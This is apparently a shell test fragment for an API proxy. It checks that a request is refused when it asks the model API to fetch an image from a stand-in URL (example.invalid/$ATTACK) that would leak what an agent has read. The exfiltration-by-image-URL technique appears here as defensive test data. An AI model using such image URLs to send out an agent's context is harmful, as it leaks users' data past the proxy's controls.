# tries: have the API fetch an image from an address that tells what the agent has read
# holds: the proxy's list of contents
image="{\"type\": \"image\", \"source\": {\"type\": \"url\", \"url\": \"https://example.invalid/$ATTACK\"}}"
refused "$(post /v1/messages "" "{\"model\": \"m\", \"max_tokens\": 1, \"messages\": [{\"role\": \"user\", \"content\": [$image]}]}")"
